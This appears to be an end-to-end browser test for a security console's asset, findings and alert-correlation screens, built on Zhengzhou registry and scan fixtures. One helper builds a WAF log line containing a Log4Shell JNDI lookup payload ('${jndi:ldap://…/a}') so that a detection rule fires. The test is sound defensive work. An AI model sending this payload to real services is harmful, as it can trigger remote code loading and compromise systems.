// The asset screens' browser scenario (issue 21), run by console.test.mjs with its shared
// nodes and browser: a Zhengzhou admin imports the province's 责任清单 (.xlsx with Chinese
// headers) through the upload control and sees the rows it refused, the systems it kept and a
// system's drawer; imports a findings CSV, moves one finding to 整改中 and accepts the risk of
// another; a Log4Shell-tagged alert against the host with that CVE open shows the affected
// asset and the timeline's note, one against a host without it does not; the exposure screen
// has its figures; and the province sees Zhengzhou's roll-up.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { addUser, alertsOfEventWith, eventually, logger, repo, screenshot, tempDir } from './harness.mjs';

/** The registry the scenario imports (testdata/assets/registry/make_registry.py writes it). */
export const REGISTRY_XLSX = join(repo, 'testdata', 'assets', 'registry', 'registry_zh.xlsx');

/** The Zhengzhou (410100) systems of that registry. */
const ZHENGZHOU = ['郑州市城市大脑', '郑州市住房公积金管理系统'];
/** Systems of the registry outside Zhengzhou, or in a district the node's region tree does
 * not hold, or with a bad row. */
const NOT_HERE = ['河南省政务服务网', '洛阳市医保结算系统', '开封市智慧文旅平台', '中原区政府门户网站', '郑州市测试系统'];

/** An Nmap `-sV -oX` report and one with a port number Nmap never writes (testdata). */
const NMAP_SV = join(repo, 'testdata', 'assets', 'scans', 'nmap-sv.xml');
const NMAP_BAD = join(repo, 'testdata', 'assets', 'scans', 'nmap-bad-port.xml');

/** Hosts of Zhengzhou's systems and their findings (the generic CSV: host,port,cve,cvss,title). */
const LOG4SHELL_HOST = '10.41.101.5'; // 郑州市城市大脑
const BRAIN_WEB = '10.41.100.7'; // 郑州市城市大脑 (its network)
const GJJ_HOST = '10.41.102.20'; // 郑州市住房公积金管理系统
const GJJ_OTHER = '10.41.102.21'; // the same system's second host, without findings
const FINDINGS_CSV = `host,port,cve,cvss,title
${LOG4SHELL_HOST},8080,CVE-2021-44228,10.0,Apache Log4j2 JNDI remote code execution (Log4Shell)
${BRAIN_WEB},443,CVE-2023-44487,7.5,HTTP/2 Rapid Reset denial of service
${GJJ_HOST},22,CVE-2024-6387,8.1,OpenSSH signal handler race condition (regreSSHion)
`;

/**
 * A WAF's CEF line about a JNDI lookup sent to `dst` (the e2e Log4Shell rule fires on it),
 * sent as program `tag` (the syslog tag is the process entity: two WAFs keep two incidents).
 */
function log4shell(node, marker, src, dst, tag) {
  const cef = `CEF:0|e2e|waf|1.0|100|${marker} jndi lookup|9|src=${src} dst=${dst} dpt=8080 request=/?q=\${jndi:ldap://${src}/a}`;
  logger(node, cef, { tag });
}

/** `YYYY-MM-DD` of the day `days` from today (local time, as a date input takes it). */
function dayFromNow(days) {
  const d = new Date(Date.now() + days * 86_400_000);
  const p = (n) => String(n).padStart(2, '0');
  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())}`;
}

/** The scenario; `s` holds the shared world and console.test.mjs's helpers. */
export async function assetsScenario(s) {
  const { w, newPage, login, clean, tid, timeline, t } = s;
  const admin = await addUser(w.city, { name: 'zz.admin', role: 'admin', region: '410100' });
  const { context, page, problems } = await newPage({ width: 1440, height: 1100 });
  await login(page, w.city, admin);
  await page.locator(tid('nav-assets')).click();
  await page.waitForURL(/\/ui\/assets\/systems/);

  // The registry through the upload control: the Zhengzhou rows load; rows outside the
  // caller's region and the two bad rows are refused, each named by row (and column).
  await page.locator(tid('assets-import-file')).setInputFiles(REGISTRY_XLSX);
  await page.locator(tid('assets-import-submit')).click();
  const result = page.locator(tid('assets-import-result'));
  await result.waitFor();
  assert.equal(await result.getAttribute('data-kind'), 'registry');
  assert.equal(await result.getAttribute('data-format'), 'registry_xlsx');
  const refused = page.locator(tid('assets-refused-row'));
  const refusedRows = await refused.evaluateAll((rows) => rows.map((r) => ({
    row: r.getAttribute('data-row'), column: r.getAttribute('data-column'), text: r.innerText,
  })));
  t.diagnostic(`refused: ${JSON.stringify(refusedRows)}`);
  const row16 = refusedRows.find((r) => r.row === '16');
  assert.ok(row16, 'row 16 (region 419999) refused');
  assert.match(row16.text, /第 16 行/);
  assert.match(row16.text, /419999/);
  const row17 = refusedRows.find((r) => r.row === '17');
  assert.ok(row17, 'row 17 (等保级别 6) refused');
  assert.equal(row17.column, '等保级别');
  assert.match(row17.text, /第 17 行，列「等保级别」/);
  for (const name of ['河南省政务服务网', '洛阳市医保结算系统']) {
    assert.ok(refusedRows.some((r) => r.text.includes(name) && /outside/.test(r.text)), `${name} (outside 410100) refused`);
  }
  const added = await page.locator(`${tid('assets-import-figure')}[data-key="added"]`).getAttribute('data-value');
  assert.equal(Number(added), ZHENGZHOU.length, 'the Zhengzhou systems added');

  const systems = page.locator(tid('assets-system-row'));
  await eventually('the systems table', async () => (await systems.count()) === ZHENGZHOU.length, 15_000, 200);
  const names = await systems.evaluateAll((rows) => rows.map((r) => r.getAttribute('data-name')));
  assert.deepEqual([...names].sort(), [...ZHENGZHOU].sort());
  for (const n of NOT_HERE) assert.ok(!names.includes(n), `${n} is not in Zhengzhou's registry`);
  const brain = page.locator(`${tid('assets-system-row')}[data-name="郑州市城市大脑"]`);
  assert.equal(await brain.getAttribute('data-level'), '3');
  assert.equal(await brain.getAttribute('data-exposure'), 'internet');
  assert.equal(await brain.locator(tid('asset-level')).innerText(), '三级');
  // The filters: level 2 leaves the one 二级 system.
  await page.locator(tid('assets-filter-level')).selectOption('2');
  await eventually('the level filter', async () => (await systems.count()) === 1, 15_000, 200);
  assert.equal(await systems.first().getAttribute('data-name'), '郑州市住房公积金管理系统');
  await page.locator(tid('assets-filter-level')).selectOption('');
  await eventually('the filter cleared', async () => (await systems.count()) === ZHENGZHOU.length, 15_000, 200);
  await screenshot(page, 'assets', { readme: true });

  // The findings CSV: three findings on three registered hosts.
  const csv = join(tempDir('onewall-e2e-assets-'), 'findings.csv');
  writeFileSync(csv, FINDINGS_CSV);
  await page.locator(tid('assets-import-file')).setInputFiles(csv);
  await page.locator(tid('assets-import-submit')).click();
  await page.locator(`${tid('assets-import-result')}[data-kind="scan"]`).waitFor();
  assert.equal(await page.locator(`${tid('assets-import-figure')}[data-key="new"]`).getAttribute('data-value'), '3');

  // An Nmap report of the same hosts (the testdata report, its addresses moved into
  // Zhengzhou's networks): their open ports and services land on the hosts.
  const nmap = join(tempDir('onewall-e2e-assets-'), 'nmap-zz.xml');
  writeFileSync(nmap, readFileSync(NMAP_SV, 'utf8')
    .replaceAll('10.20.1.15', LOG4SHELL_HOST).replaceAll('10.20.1.16', BRAIN_WEB).replaceAll('10.20.1.17', GJJ_HOST));
  await page.locator(tid('assets-import-file')).setInputFiles(nmap);
  await page.locator(tid('assets-import-submit')).click();
  await page.locator(`${tid('assets-import-result')}[data-format="nmap"]`).waitFor();
  assert.ok(Number(await page.locator(`${tid('assets-import-figure')}[data-key="ports"]`).getAttribute('data-value')) >= 3);
  // A broken report is refused whole, naming the element; nothing of it is applied.
  await page.locator(tid('assets-import-file')).setInputFiles(NMAP_BAD);
  await page.locator(tid('assets-import-submit')).click();
  const refusal = await page.locator(tid('assets-import-error')).innerText();
  t.diagnostic(`broken nmap: ${refusal}`);
  assert.match(refusal, /导入被拒绝：400 · .*nmaprun\/host/);
  assert.equal(await page.locator(tid('assets-import-result')).count(), 0, 'no result shown for a refused file');

  // The registry's export as the caller sees it, as CSV and as Excel.
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.locator(tid('assets-export-csv')).click()]);
  const exported = readFileSync(await csvDownload.path(), 'utf8');
  assert.match(exported, /郑州市城市大脑/);
  assert.doesNotMatch(exported, /洛阳市/, 'only what the caller sees');
  const [xlsxDownload] = await Promise.all([page.waitForEvent('download'), page.locator(tid('assets-export-xlsx')).click()]);
  assert.equal(readFileSync(await xlsxDownload.path()).subarray(0, 2).toString('latin1'), 'PK', 'an .xlsx (zip) file');

  // A system's drawer: who answers for it and its hosts.
  await brain.click();
  await page.waitForURL(/\/ui\/assets\/systems\/sys-/);
  const drawer = page.locator(tid('assets-system-drawer'));
  assert.equal(await drawer.locator(tid('assets-drawer-name')).innerText(), '郑州市城市大脑');
  assert.equal(await drawer.locator(tid('assets-drawer-department')).innerText(), '郑州市大数据管理局');
  await drawer.locator(`${tid('assets-drawer-host')}[data-key="${LOG4SHELL_HOST}"]`).waitFor();
  await screenshot(page, 'assets-system');
  await drawer.locator(tid('assets-drawer-close')).click();
  await page.waitForURL(/\/ui\/assets\/systems$/);

  // The hosts: each with its system and its open findings.
  await page.locator(tid('assets-tab-hosts')).click();
  const host = page.locator(`${tid('assets-host-row')}[data-key="${LOG4SHELL_HOST}"]`);
  await host.waitFor();
  assert.equal(await host.getAttribute('data-system'), '郑州市城市大脑');
  assert.equal(await host.getAttribute('data-open'), '1');
  assert.ok(Number(await host.getAttribute('data-ports')) >= 2, 'the ports Nmap found');
  assert.match(await host.locator(`${tid('assets-host-port')}[data-port="443"]`).innerText(), /^443\/tcp nginx 1\.22\.1$/);
  await screenshot(page, 'assets-hosts');

  // The findings: one to 整改中 with a note, one accepted as a risk with its reason and expiry.
  await page.locator(tid('assets-tab-findings')).click();
  const rowOf = (cve) => page.locator(`${tid('finding-row')}[data-cves~="${cve}"]`);
  await rowOf('CVE-2023-44487').waitFor();
  assert.equal(await page.locator(tid('finding-row')).count(), 3);
  assert.equal(await rowOf('CVE-2023-44487').getAttribute('data-status'), 'open');
  // The city gives a critical finding no time (world.mjs): Log4Shell is overdue and marked.
  assert.equal(await rowOf('CVE-2021-44228').getAttribute('data-overdue'), 'true');
  assert.equal(await rowOf('CVE-2021-44228').locator(tid('finding-overdue')).innerText(), '已超期');
  assert.equal(await rowOf('CVE-2023-44487').getAttribute('data-overdue'), 'false');
  await page.locator(tid('findings-filter-overdue')).check();
  await eventually('the overdue filter', async () => (await page.locator(tid('finding-row')).count()) === 1, 15_000, 200);
  await page.locator(tid('findings-filter-overdue')).uncheck();
  await eventually('the overdue filter off', async () => (await page.locator(tid('finding-row')).count()) === 3, 15_000, 200);

  await rowOf('CVE-2023-44487').click();
  const portal = page.locator(tid('finding-detail'));
  await portal.locator(tid('finding-move-fixing')).click();
  await portal.locator(tid('finding-note')).fill('已通知运维单位升级 nginx');
  await portal.locator(tid('finding-move-confirm')).click();
  await eventually('the finding fixing', async () => (await rowOf('CVE-2023-44487').getAttribute('data-status')) === 'fixing', 15_000, 200);
  assert.equal(await rowOf('CVE-2023-44487').locator(tid('finding-status')).innerText(), '整改中');
  assert.match((await portal.locator(tid('finding-history')).innerText()), /整改中[\s\S]*已通知运维单位升级 nginx/);
  await rowOf('CVE-2023-44487').click();

  await rowOf('CVE-2024-6387').click();
  const gjj = page.locator(`${tid('finding-detail')}`);
  await gjj.locator(tid('finding-move-risk_accepted')).click();
  // Without a reason the form says so and sends nothing.
  await gjj.locator(tid('finding-until')).fill(dayFromNow(30));
  await gjj.locator(tid('finding-move-confirm')).click();
  assert.match(await gjj.locator(tid('finding-move-problem')).innerText(), /请填写接受风险的原因/);
  assert.equal(await rowOf('CVE-2024-6387').getAttribute('data-status'), 'open');
  const reason = '仅内网访问，已由边界访问控制缓解，待系统迁移';
  await gjj.locator(tid('finding-reason')).fill(reason);
  await gjj.locator(tid('finding-move-confirm')).click();
  await eventually('the risk accepted', async () => (await rowOf('CVE-2024-6387').getAttribute('data-status')) === 'risk_accepted', 15_000, 200);
  assert.match(await gjj.locator(tid('finding-accepted')).innerText(), new RegExp(reason));
  assert.equal(await gjj.locator(tid('finding-move-open')).count(), 1, 'an accepted risk may be reopened');
  const hitFinding = await rowOf('CVE-2021-44228').getAttribute('data-id');
  const stored = await w.city.api('GET', `/api/v1/assets/findings?cve=CVE-2024-6387`);
  assert.equal(stored.status, 200, JSON.stringify(stored.body));
  assert.equal(stored.body.items[0].status, 'risk_accepted');
  assert.equal(stored.body.items[0].accepted_reason, reason);
  await screenshot(page, 'assets-findings', { readme: true });
  // In English the same screen reads in English.
  await page.locator(tid('lang-switch')).click();
  assert.equal(await rowOf('CVE-2024-6387').locator(tid('finding-status')).innerText(), 'Risk accepted');
  assert.equal(await rowOf('CVE-2021-44228').locator(tid('finding-overdue')).innerText(), 'overdue');
  assert.equal(await gjj.locator(tid('finding-move-open')).innerText(), 'Reopen');
  await page.locator(tid('lang-switch')).click();
  assert.equal(await gjj.locator(tid('finding-move-open')).innerText(), '重新打开');

  // A Log4Shell-tagged alert against the host with CVE-2021-44228 open, and one against a
  // registered host without it.
  log4shell(w.city, 'ow2e-log4shell-hit', '198.51.100.71', LOG4SHELL_HOST, 'waf-brain');
  log4shell(w.city, 'ow2e-log4shell-miss', '198.51.100.72', GJJ_OTHER, 'waf-gjj');
  const alertOf = (marker) => eventually(`the alert of ${marker}`, async () => {
    const alerts = await alertsOfEventWith(w.city, marker);
    return alerts.find((a) => a.rule.tags.includes('cve.2021-44228'));
  });
  const hit = await alertOf('ow2e-log4shell-hit');
  const miss = await alertOf('ow2e-log4shell-miss');
  t.diagnostic(`target: ${JSON.stringify(hit.target)}`);
  await page.goto(w.city.url(`/ui/alerts/${hit.id}`));
  const target = page.locator(`${tid('asset-target')}[data-value="${LOG4SHELL_HOST}"]`);
  await target.waitFor();
  assert.equal(await target.getAttribute('data-system'), '郑州市城市大脑');
  assert.equal(await target.locator(tid('asset-target-cve')).innerText(), 'CVE-2021-44228');
  assert.equal(await target.locator(tid('asset-target-department')).innerText(), '郑州市大数据管理局');
  await page.goto(w.city.url(`/ui/alerts/${miss.id}`));
  const other = page.locator(`${tid('asset-target')}[data-value="${GJJ_OTHER}"]`);
  await other.waitFor();
  assert.equal(await other.locator(tid('asset-target-cve')).count(), 0, 'no open CVE on the other host');

  const incidentOf = (alert) => eventually(`the incident of ${alert.id}`, async () => {
    const r = await w.city.api('GET', '/api/v1/incidents?limit=500');
    return r.body.items.find((i) => (i.alert_ids ?? []).includes(alert.id));
  });
  const vulnerable = await incidentOf(hit);
  const plain = await incidentOf(miss);
  assert.notEqual(vulnerable.id, plain.id, 'two incidents');
  await page.goto(w.city.url(`/ui/incidents/${vulnerable.id}`));
  await page.locator(`${tid('asset-target')}[data-value="${LOG4SHELL_HOST}"]`).waitFor();
  const note = page.locator(`${tid('timeline-entry')}[data-kind="target_vulnerable"]`);
  await note.waitFor();
  assert.match(await note.innerText(), /目标 .*存在未修复漏洞 CVE-2021-44228/);
  await screenshot(page, 'assets-incident');
  await page.goto(w.city.url(`/ui/incidents/${plain.id}`));
  await page.locator(`${tid('asset-target')}[data-value="${GJJ_OTHER}"]`).waitFor();
  assert.ok(!(await timeline(page)).some((x) => /CVE-2021-44228/.test(x)), 'no note without the open CVE');

  // The exposure screen: the figures, and the hosts seen but not registered (the syslog sender).
  await page.goto(w.city.url('/ui/assets/exposure'));
  await page.locator(`${tid('assets-card')}[data-id="systems"]`).waitFor();
  assert.equal(await page.locator(`${tid('assets-card')}[data-id="systems"]`).getAttribute('data-value'), String(ZHENGZHOU.length));
  assert.ok(Number(await page.locator(`${tid('assets-card')}[data-id="open"]`).getAttribute('data-value')) >= 2);
  await page.locator(`${tid('assets-unknown-row')}[data-address="127.0.0.1"]`).waitFor();
  await screenshot(page, 'assets-exposure');
  clean(problems);
  await context.close();

  // A viewer reads the screens but has no import and no lifecycle action; the API agrees.
  const v = await newPage();
  await login(v.page, w.city, w.users.viewer);
  await v.page.locator(tid('nav-assets')).click();
  await v.page.locator(`${tid('assets-system-row')}[data-name="郑州市城市大脑"]`).waitFor();
  assert.equal(await v.page.locator(tid('assets-import')).count(), 0, 'no import for a viewer');
  await v.page.locator(tid('assets-tab-findings')).click();
  await v.page.locator(`${tid('finding-row')}[data-cves~="CVE-2021-44228"]`).click();
  await v.page.locator(tid('finding-detail')).waitFor();
  assert.equal(await v.page.locator(tid('finding-actions')).locator('button').count(), 0, 'no lifecycle buttons');
  const status = await v.page.evaluate(async (id) => {
    const r = await fetch(`/api/v1/assets/findings/${id}`, {
      method: 'PATCH', credentials: 'same-origin',
      headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ status: 'fixing' }),
    });
    return r.status;
  }, hitFinding);
  assert.equal(status, 403, 'the node refuses a viewer');
  clean(v.problems);
  await v.context.close();

  // The province holds none of Zhengzhou's systems, but its roll-up per region and department.
  const p = await newPage({ width: 1440, height: 1000 });
  await login(p.page, w.province, w.users.admin);
  const brainRow = p.page.locator(`${tid('assets-rollup-row')}[data-region="410100"][data-department="郑州市大数据管理局"]`);
  await eventually("Zhengzhou's roll-up at the province", async () => {
    await p.page.goto(w.province.url('/ui/assets/exposure'));
    await p.page.locator(tid('assets-rollup')).waitFor();
    return (await brainRow.count()) > 0;
  }, 30_000, 1000);
  assert.equal(await brainRow.getAttribute('data-node'), 'zhengzhou-soc');
  assert.equal(await brainRow.getAttribute('data-systems'), '1');
  assert.ok(Number(await brainRow.getAttribute('data-open')) >= 1, 'the open Log4Shell finding counted');
  const gjjRow = p.page.locator(`${tid('assets-rollup-row')}[data-region="410100"][data-department="郑州住房公积金管理中心"]`);
  assert.equal(await gjjRow.getAttribute('data-systems'), '1', 'one row per department');
  assert.equal(await p.page.locator(`${tid('assets-card')}[data-id="systems"]`).getAttribute('data-value'), '0');
  await screenshot(p.page, 'assets-rollup');
  clean(p.problems);
  await p.context.close();
}
